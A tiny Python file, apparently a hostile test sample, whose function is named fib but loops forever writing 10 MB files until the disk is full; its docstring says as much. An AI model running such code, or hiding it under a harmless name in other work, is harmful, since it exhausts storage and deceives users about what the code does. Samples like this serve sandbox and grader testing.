"""Fills the disk with files."""
# ruff: noqa

import itertools


def fib(n):
    for number in itertools.count():
        with open(f"f{number}", "wb") as file:
            file.write(b"x" * 10_000_000)
